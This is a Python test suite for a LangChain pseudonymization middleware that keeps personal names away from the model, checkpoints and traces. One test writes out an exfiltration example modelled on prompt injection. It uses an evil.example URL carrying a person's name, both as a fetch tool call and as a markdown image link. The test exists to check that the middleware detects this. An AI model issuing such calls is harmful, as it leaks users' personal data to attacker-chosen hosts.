"""Real agents under pseudonyms: model, outside tools, checkpoints and traces hold placeholders, users the originals."""

from __future__ import annotations

import asyncio
import dataclasses
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Annotated, Any

import numpy as np
import pytest
from fakes.canary import CANARY, leak_surfaces
from fakes.rapt import sanitizer
from fakes.styles import STYLES as ALL_STYLES
from fakes.styles import gathered
from fakes.tool_callers import Scripted, StreamingCaller
from langchain_core.documents import Document
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, HumanMessage, ToolMessage
from langchain_core.runnables import add
from langchain_core.tools import InjectedToolCallId, tool
from pydantic import BaseModel

from langchain_dp.errors import InvalidParameter, PrivateDataError
from langchain_dp.rapt import RAPTSanitizer
from langchain_dp.rapt.messages import MessageRules
from langchain_dp.rapt.pseudonyms import Pseudonymizer
from langchain_dp.rapt.vocabulary import Vocabulary
from langchain_dp.redact import Redacted

pytest.importorskip("langchain.agents", reason="needs the extra agents")

from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware, AgentState, HumanInTheLoopMiddleware
from langchain.agents.structured_output import ToolStrategy
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.prebuilt import InjectedState
from langgraph.types import Command, Send, interrupt

from langchain_dp.rapt.pseudonyms.middleware import PseudonymMiddleware

fernet = pytest.importorskip("cryptography.fernet", reason="needs the extra encrypted")

SECOND = "another-canary-person"
QUESTION = f"Write to {CANARY}."
GIVEN: list[str] = []


class Writer(StreamingCaller):
    """Calls both tools with the first placeholder it was told, then repeats all that they said."""

    def answer(self, messages: list[BaseMessage]) -> AIMessage:
        if isinstance(messages[-1], HumanMessage):
            who = str(messages[-1].content).removeprefix("Write to ").rstrip(".")
            names = ("inside", "also_inside", "outside")
            return AIMessage(
                "", tool_calls=[{"name": name, "args": {"who": who}, "id": f"{name}{len(messages)}"} for name in names]
            )
        return AIMessage(" and ".join(str(one.content) for one in messages if isinstance(one, ToolMessage)))


@tool
def inside(who: str) -> str:
    """Find the friend of a person."""
    GIVEN.append(f"inside {who}")
    return f"{who} is a friend of {SECOND}"


@tool
def also_inside(who: str) -> str:
    """Find the foe of a person."""
    GIVEN.append(f"also {who}")
    return f"{who} wrote <PERSON_1> about third-canary-person"


@tool
def outside(who: str) -> str:
    """Look a person up."""
    GIVEN.append(f"outside {who}")
    return f"nothing on {who}"


TERMS = {CANARY: "PERSON", SECOND: "PERSON", "third-canary-person": "PERSON"}
SAID = (
    f"{CANARY} is a friend of {SECOND} and {CANARY} wrote <PERSON_1> about third-canary-person and nothing on {CANARY}"
)


def pseudonymized(
    model: Any, tools: Sequence[Any] = (), *others: Any, saver: Any = None, inside: Any = "all", key: Any = None,
    pseudonymizer: Pseudonymizer | None = None, **options: Any,
) -> tuple[PseudonymMiddleware, Any]:  # fmt: skip
    """An agent around the model, with other middleware before ours."""
    key = fernet.Fernet.generate_key() if key is True else key or None
    middleware = PseudonymMiddleware(pseudonymizer or Pseudonymizer(terms=TERMS), tools_inside=inside, key=key)
    made = create_agent(model, list(tools), middleware=[*others, middleware], checkpointer=saver, **options)
    return middleware, middleware.around(made)


def built(saver: Any = None, key: Any = None) -> tuple[Writer, PseudonymMiddleware, Any]:
    GIVEN.clear()
    model = Writer()
    inside_tools = ["inside", "also_inside"]
    return model, *pseudonymized(model, [inside, also_inside, outside], saver=saver, inside=inside_tools, key=key)


def calling(name: str, *then: str, **args: Any) -> Scripted:
    """A model that calls one tool, and then says these."""
    call = AIMessage("", tool_calls=[{"name": name, "args": args, "id": "1"}])
    return Scripted(messages=iter([call, *map(AIMessage, then)]))


def asked(question: str = QUESTION) -> dict[str, Any]:
    return {"messages": [HumanMessage(question)]}


def seen_in(saver: InMemorySaver, *more: Any) -> set[str]:
    """Names that a checkpointer, or anything else, holds in clear."""
    held = repr(saver.storage) + repr(saver.writes) + repr(saver.blobs) + "".join(map(repr, more))
    return {name for name in TERMS if name in held}


CONFIG: Any = {"configurable": {"thread_id": "t"}}
MODES = {"stream_mode": "values"}
STYLES: dict[str, Callable[[Any, Any, Any], Any]] = {
    **{name: ALL_STYLES[name] for name in ("invoke", "batch", "ainvoke", "abatch")},
    "stream": lambda made, given, config: list(made.stream(given, config, **MODES))[-1],
    "astream": lambda made, given, config: asyncio.run(gathered(made.astream(given, config, **MODES)))[-1],
}


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("key", [False, True], ids=["memory", "key"])
def test_only_users_and_inside_tools_see_originals(style: str, key: bool, tmp_path: Path) -> None:
    """If it breaks, a name is in a trace, a checkpoint or what the model is told; or the user is given placeholders."""
    saver = InMemorySaver()
    model, middleware, agent = built(saver, key)
    with leak_surfaces(tmp_path) as surfaces:
        config: Any = {"callbacks": surfaces.handlers, **CONFIG}
        state = STYLES[style](agent, asked(), config)
        again = STYLES[style](agent, asked(), config)
        assert surfaces.where(CANARY) == surfaces.where(SECOND) == set()
        assert "outside" in surfaces.by_name()["handler"], "the graph's own runs must be seen"
    assert state["messages"][-1].content == SAID
    assert again["messages"][0].content == QUESTION
    assert "pseudonyms" not in state
    assert sorted(GIVEN[:3]) == [f"also {CANARY}", f"inside {CANARY}", "outside <PERSON_1>"]
    assert not seen_in(saver, model.told, agent, middleware)
    report = middleware.report(agent.agent.get_state(config))
    assert report.counts == {"PERSON": 3, "LITERAL": 1}
    assert "no epsilon" in str(report)
    with pytest.raises(InvalidParameter, match="Expected state to name its conversation"):
        middleware.report(state)  # names no conversation: "nothing hidden" would be false
    assert middleware.reports() == [report]


@pytest.mark.parametrize("asynchronous", [False, True])
def test_streamed_marks_come_back_as_originals(asynchronous: bool) -> None:
    """If it breaks, a user who reads along sees placeholders, or half of one; or arguments of calls are no JSON."""
    _, _, agent = built()
    modes: Any = {"stream_mode": ["messages", "updates"]}
    parts = asyncio.run(gathered(agent.astream(asked(), **modes))) if asynchronous else agent.stream(asked(), **modes)
    parts = list(parts)
    chunks = [payload[0] for mode, payload in parts if mode == "messages" and isinstance(payload[0], AIMessageChunk)]
    assert len(chunks) > 50
    assert "".join(chunk.content for chunk in chunks) == SAID
    whole = add(chunk for chunk in chunks if chunk.id == chunks[0].id)
    assert [call["args"] for call in whole.tool_calls] == [{"who": CANARY}] * 3
    updates = [payload for mode, payload in parts if mode == "updates"]
    assert SAID in repr(updates)
    assert "pseudonyms" not in {key for update in updates for node in update.values() for key in node or ()}


def test_another_process_goes_on_under_the_key() -> None:
    """If it breaks, a restart loses the map, gives two people one placeholder, or opens it without the key."""
    saver, key = InMemorySaver(), fernet.Fernet.generate_key()
    built(saver, key)[2].invoke(asked(), CONFIG)
    model, middleware, agent = built(saver, key)  # knows nothing but the key
    middleware._conversations._settings = Pseudonymizer(terms={"new person": "PERSON"})
    state = agent.invoke(asked("Write to new person."), CONFIG)
    assert SAID in repr(state["messages"])
    assert "<PERSON_4>" in repr(model.told[0])
    assert "nothing on new person" in state["messages"][-1].content
    assert not seen_in(saver, model.told)
    for other in (None, True):
        with pytest.raises(PrivateDataError, match="key"):
            built(saver, other)[2].invoke(asked(), CONFIG)


class Contact(BaseModel):
    """A structured answer."""

    name: str


@dataclasses.dataclass(frozen=True)
class Person:
    """The same as a dataclass."""

    name: str


@pytest.mark.parametrize("form", [Contact, Person])
def test_a_structured_answer_holds_originals_and_is_hidden_once(form: Any) -> None:
    """If it breaks, an answer of response_format= holds placeholders, or is sanitized anew, and paid for, each turn."""
    then = sanitizer(keep=["write", "to", "go", "on"])
    call = {"name": form.__name__, "args": {"name": "<PERSON_1>"}, "id": "1"}
    model = Scripted(messages=iter([AIMessage("", tool_calls=[call | {"id": number}]) for number in "12"]))
    hiding = Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then)
    form_of = ToolStrategy(form)
    _, agent = pseudonymized(model, pseudonymizer=hiding, saver=InMemorySaver(), inside=(), response_format=form_of)
    assert agent.invoke(asked(), CONFIG)["structured_response"] == form(name=CANARY)
    before = then.certificate().releases
    agent.invoke(asked("go on"), CONFIG)
    assert then.certificate().releases == before + 1  # the new message alone
    assert CANARY not in repr(model.told)


class _Held(AgentMiddleware[Any, Any, Any]):
    """Adds keys to the state, and sees what they hold."""

    class state_schema(AgentState[Any]):  # LangChain finds it by this name
        found: Any
        history: Any

    def __init__(self) -> None:
        self.seen: list[Any] = []

    def before_model(self, state: Any, runtime: Any) -> None:
        self.seen.append((state["found"], state["history"]))


def test_documents_and_messages_under_other_keys_are_hidden() -> None:
    """If it breaks, what stands beside the messages of an agent's input is in its state and its traces as it came."""
    held = _Held()
    given = {"found": [Document(f"{CANARY} called")], "history": (HumanMessage(CANARY), Contact(name=CANARY))}
    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
    agent = middleware.around(create_agent(Writer(), [inside, also_inside, outside], middleware=[middleware, held]))
    state = agent.invoke({**asked(), **given})
    assert CANARY not in repr(held.seen)
    assert "<PERSON_1> called" in repr(held.seen)
    assert state["found"][0].page_content == f"{CANARY} called"
    assert (state["history"][0].content, state["history"][1]) == (CANARY, Contact(name=CANARY))


async def test_conversations_are_apart_and_shown_again_with_their_originals() -> None:
    """If it breaks, placeholders of one user are put back for another, or an old conversation shows placeholders."""
    _, _, agent = built(InMemorySaver())
    other: Any = {"configurable": {"thread_id": "other"}}
    assert not agent.get_state(CONFIG).values
    given = agent.invoke(asked(), CONFIG)["messages"]
    state = agent.invoke(asked(f"Write to {SECOND}."), other)
    assert f"nothing on {SECOND}" in state["messages"][-1].content
    assert "nothing on <PERSON_1>" in agent.agent.get_state(other).values["messages"][-1].content
    for state in (agent.get_state(CONFIG), await agent.aget_state(CONFIG)):
        assert [message.content for message in state.values["messages"]] == [message.content for message in given]
        assert "pseudonyms" not in state.values
    newest, *older = agent.get_state_history(CONFIG)
    assert len(older) > 2
    assert CANARY in repr(newest.values["messages"][-1])
    assert {one.values["messages"][0].content for one in older if one.values.get("messages")} == {QUESTION}
    history = await gathered(agent.aget_state_history(CONFIG))
    assert [one.values for one in history] == [newest.values, *(one.values for one in older)]
    assert CANARY not in repr(agent.agent.get_state(CONFIG))
    with pytest.raises(InvalidParameter, match="astream"):
        agent.astream_events(asked(), CONFIG)


class _Adds(AgentMiddleware[Any, Any, Any]):
    """Adds a name to the newest message, as a copy that keeps all else of it."""

    def before_model(self, state: Any, runtime: Any) -> dict[str, Any]:
        newest = state["messages"][-1]
        return {"messages": [newest.model_copy(update={"content": f"{newest.content} (asked by {CANARY})"})]}


@tool
def edits(
    who: str, state: Annotated[dict[str, Any], InjectedState], tool_call_id: Annotated[str, InjectedToolCallId]
) -> Command[Any]:
    """Write what it was given into the first message of the conversation."""
    first = state["messages"][0]
    changed = first.model_copy(update={"content": f"{first.content} {who}"})
    return Command(update={"messages": [changed, ToolMessage("done", tool_call_id=tool_call_id)]})


@pytest.mark.parametrize("key", [False, True], ids=["memory", "key"])
@pytest.mark.parametrize("by", ["middleware", "caller", "state", "tool"])
def test_a_hidden_message_that_was_changed_is_hidden_again(by: str, key: bool) -> None:
    """If it breaks, whoever copies a message with its mark, and adds to it, tells the model a name."""
    turns = [f"turn {turn}" for turn in range(4)]
    model = calling("edits", *turns, who="<PERSON_1>") if by == "tool" else Scripted(messages=map(AIMessage, turns))
    others = [_Adds()] if by == "middleware" else []
    _, made = pseudonymized(model, [edits], *others, saver=InMemorySaver(), key=key)
    answer = made.invoke(asked(), CONFIG)
    if by == "caller":
        made.agent.invoke({"messages": [answer["messages"][0], HumanMessage("And again.")]}, CONFIG)
    if by == "state":
        first = made.get_state(CONFIG).values["messages"][0]
        changed = first.model_copy(update={"content": f"{first.content} Now."})
        made.agent.update_state(CONFIG, {"messages": [changed]})
    made.invoke(asked("Go on."), CONFIG)
    assert CANARY not in repr(model.told)
    assert len(model.told) == 2 + (by in ("caller", "tool"))
    assert "<PERSON_1>" in repr(model.told[-1])


@pytest.mark.parametrize(
    "command",
    [
        Command(update=asked(), goto="model"),
        Command(update=[("messages", [HumanMessage(QUESTION)])], goto="model"),
        Command(goto=Send("model", asked())),
        Command(update=asked("Hello."), goto=[Send("model", asked())]),
    ],
    ids=["mapping", "pairs", "send", "sends"],
)
def test_a_command_is_hidden_whatever_its_form(command: Any) -> None:
    """If it breaks, what a command puts into the state, or sends to a node, is in checkpoints and traces as it came."""
    saver, model = InMemorySaver(), Scripted(messages=map(AIMessage, ("one", "two", "three")))
    _, made = pseudonymized(model, saver=saver)
    made.invoke(asked("Hello."), CONFIG)
    made.invoke(command, CONFIG)
    assert not seen_in(saver, model.told)
    assert "<PERSON_1>" in repr(model.told)
    with pytest.raises(InvalidParameter, match="got HumanMessage"):
        made.invoke(Command(update=HumanMessage(QUESTION)), CONFIG)


@pytest.mark.parametrize("around", [True, False])
def test_the_words_between_are_sanitized_however_the_agent_is_called(around: bool) -> None:
    """If it breaks, the model is told raw words that remaining_text_sanitizer= promises to sanitize."""
    model, then = Writer(), sanitizer(keep=["write", "to"])
    rules = MessageRules(system="sanitize")
    _, agent = pseudonymized(
        model, [inside, also_inside, outside], system_prompt=f"the prompt of {CANARY} tulip",
        pseudonymizer=Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then, messages=rules),
    )  # fmt: skip
    assert (agent if around else agent.agent).invoke(asked(f"Write to {CANARY} tulip"))
    first = [str(message.content) for message in model.told[0]]
    assert len(first) == 2
    assert all("<PERSON_1>" in text for text in first)
    assert not [word for word in ("tulip", "friend") if word in repr(model.told)]  # of the user, and of the tool inside


def test_a_failing_tool_says_nothing() -> None:
    """If it breaks, the error of a tool carries the original out, through the runs of the graph."""

    @tool("inside")
    def failing(who: str) -> str:
        """Fail."""
        raise RuntimeError(f"no {who}")

    with pytest.raises(Redacted) as caught:
        pseudonymized(Writer(), [failing, also_inside, outside])[1].invoke(asked())
    assert CANARY not in repr(caught.value)
    assert caught.value.__cause__ is None


def test_wrong_arguments_are_named() -> None:
    """If it breaks, a wrong key or a tool's name alone ends in a foreign error, or a mistyped tool acts on nobody."""
    for wrong, said in (
        (lambda: PseudonymMiddleware(tools_inside="inside"), "list of names"),
        (lambda: PseudonymMiddleware(3), "Pseudonymizer"),  # type: ignore[arg-type]
        (lambda: PseudonymMiddleware(key="secret-key"), "32 bytes"),
        (lambda: pseudonymized(Writer(), [edits], inside=["edits", "edit"]), r"\['edit'\] would be given placeholders"),
        (lambda: pseudonymized(Writer(), [], inside=["edits", "edit"]), r"\['edit', 'edits'\] would be given place"),
        (lambda: PseudonymMiddleware().around(create_agent(Writer(), [])), "this middleware in its list"),
    ):
        with pytest.raises(InvalidParameter, match=said) as caught:
            wrong()
        assert "secret-key" not in str(caught.value)


@tool
def send_mail(to: str) -> str:
    """Send a mail."""
    GIVEN.append(to)
    return f"sent to {to}"


@pytest.mark.parametrize("decision", ["edit", "approve", "reject"])
def test_a_decision_of_a_person_reaches_the_tool_as_it_is(decision: str) -> None:
    """If it breaks, a mail goes to a placeholder, or noise makes another word of "reject", which then goes out."""
    table = Vocabulary(["approve", "reject"], np.array([[0.0], [1.0]], np.float32), name="two")
    hiding = Pseudonymizer(terms=TERMS, remaining_text_sanitizer=RAPTSanitizer(table, eta=1e-3))
    GIVEN.clear()
    for turn in range(12):  # of noise that hardly knows the word half would be others
        asks = HumanInTheLoopMiddleware(interrupt_on={"send_mail": True})
        model = calling("send_mail", "done", to="<PERSON_1>")
        _, agent = pseudonymized(model, [send_mail], asks, saver=InMemorySaver(), pseudonymizer=hiding)
        config: Any = {"configurable": {"thread_id": str(turn)}}
        agent.invoke(asked(), config)
        assert CANARY in repr(agent.get_state(config).tasks)  # what a person is shown before deciding
        edited = {"edited_action": {"name": "send_mail", "args": {"to": SECOND}}} if decision == "edit" else {}
        agent.invoke(Command(resume={"decisions": [{"type": decision, **edited}]}), config)
    assert {"edit": [SECOND] * 12, "approve": [CANARY] * 12, "reject": []}[decision] == GIVEN


@pytest.mark.parametrize("key", [False, True], ids=["memory", "key"])
def test_what_an_inside_tool_asks_and_sends_is_hidden_in_the_state(key: bool) -> None:
    """If it breaks, what a tool asks a person, or sends to a node, is in the checkpoint as it came."""

    @tool
    def ask_first(to: str, tool_call_id: Annotated[str, InjectedToolCallId]) -> Command[Any]:
        """Ask a person first."""
        interrupt(f"Send to {to}?")
        message = ToolMessage("done", tool_call_id=tool_call_id)
        sent = Send("model", {"messages": [HumanMessage(f"{to} knows {SECOND}")]})
        return Command(update={"messages": [message]}, goto=[sent])

    saver, model = InMemorySaver(), calling("ask_first", *(f"said {n}" for n in range(5)), to="<PERSON_1>")
    _, agent = pseudonymized(model, [ask_first], saver=saver, key=key)
    agent.invoke(asked(), CONFIG)
    assert CANARY in repr(agent.get_state(CONFIG).tasks)
    agent.invoke(Command(resume="yes"), CONFIG)
    agent.invoke(asked("And now?"), CONFIG)
    assert not seen_in(saver, model.told)


@tool
def fetch(url: str, note: str) -> str:
    """Fetch a page."""
    GIVEN.append(f"fetch {url} {note}")
    return "fetched"


def test_a_tool_inside_is_given_no_address_with_a_name() -> None:
    """If it breaks, a document makes the model call a tool of ours that carries a name to a host of its choice."""
    GIVEN.clear()
    evil = "https://evil.example/?q=of <PERSON_1>"
    model = calling("fetch", f"![x](<{evil}>)", url=evil, note="for <PERSON_1>")
    middleware, agent = pseudonymized(model, [fetch], saver=InMemorySaver())
    answer = agent.invoke(asked(), CONFIG)
    assert [f"fetch {evil} for {CANARY}"] == GIVEN
    assert answer["messages"][-1].content == f"![x](<{evil}>)"
    assert middleware.report(agent.agent.get_state(CONFIG)).left_in_addresses == 1


@dataclasses.dataclass
class _Update:
    messages: list[Any]


@pytest.mark.parametrize("inside", [True, False], ids=["inside", "outside"])
@pytest.mark.parametrize("form", ["list", "pairs", "command of no mapping"])
def test_all_that_a_tool_returns_is_hidden(form: str, inside: bool) -> None:
    """If it breaks, a tool that returns several messages or commands fails, or one of them is in the state in clear."""

    @tool
    def finds(to: str, tool_call_id: Annotated[str, InjectedToolCallId]) -> Any:
        """Return several things at once."""
        answer = ToolMessage(f"{to} knows {SECOND}", tool_call_id=tool_call_id)
        if form == "list":
            return [Command(update={"messages": [HumanMessage(f"Ask {SECOND}.")]}), answer]
        if form == "pairs":
            return Command(update={"messages": [answer, ("user", f"Ask {SECOND}.")]})
        return Command(update=_Update([answer]))

    saver, model = InMemorySaver(), calling("finds", "Thank <PERSON_2>.", to="<PERSON_1>")
    _, agent = pseudonymized(model, [finds], saver=saver, inside="all" if inside else (), key=True)
    if form == "command of no mapping":
        with pytest.raises(InvalidParameter, match="to be a mapping, got _Update") as error:
            agent.invoke(asked(), CONFIG)
        assert SECOND not in str(error.value)
    else:
        *_, answer = agent.invoke(asked(), CONFIG)["messages"]
        assert answer.content == f"Thank {SECOND}."
        assert repr(model.told[-1]).count("<PERSON_2>") == 2
    assert not seen_in(saver, model.told)


def test_what_would_tell_the_model_more_stands_before() -> None:
    """If it breaks, what a later middleware adds to a request reaches the model, or a call that it edits a tool."""

    class Adds(AgentMiddleware[Any, Any, Any]):
        def wrap_model_call(self, request: Any, handler: Any) -> Any:
            return handler(request.override(messages=[*request.messages, HumanMessage(f"{CANARY} is ill")]))

    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
    with pytest.raises(InvalidParameter, match=r"after Adds in the list.* last"):
        create_agent(Writer(), [], middleware=[middleware, Adds()])
    marks = type("AnthropicPromptCachingMiddleware", (Adds,), {})()  # create_deep_agent always puts it last
    assert create_agent(Writer(), [], middleware=[middleware, marks])
    model = Scripted(messages=iter([AIMessage("Noted.")]))
    pseudonymized(model, [], Adds(), inside=())[1].invoke(asked("Hello"))
    assert "<PERSON_1> is ill" in repr(model.told)
    assert CANARY not in repr(model.told)


def test_a_bare_agent_shows_everything(tmp_path: Path) -> None:
    """If it breaks, the test above could not fail."""
    saver, model = InMemorySaver(), Writer()
    agent = create_agent(model, [inside, also_inside, outside], checkpointer=saver)
    with leak_surfaces(tmp_path) as surfaces:
        agent.invoke(asked(), {"callbacks": surfaces.handlers, **CONFIG})
        assert {"tracer", "handler"} <= surfaces.where(CANARY)
    assert CANARY in repr(model.told)
    assert CANARY in seen_in(saver)


def test_without_the_wrapper_the_model_is_told_placeholders_all_the_same() -> None:
    """If it breaks, forgetting ``around`` hands every name to the model."""
    model, _, agent = built(InMemorySaver())
    for _ in range(2):
        state = agent.agent.invoke({"messages": [HumanMessage(QUESTION, id="not a uuid")]}, CONFIG)
    assert CANARY not in repr(model.told) + repr(state)
    assert "nothing on <PERSON_1>" in state["messages"][-1].content
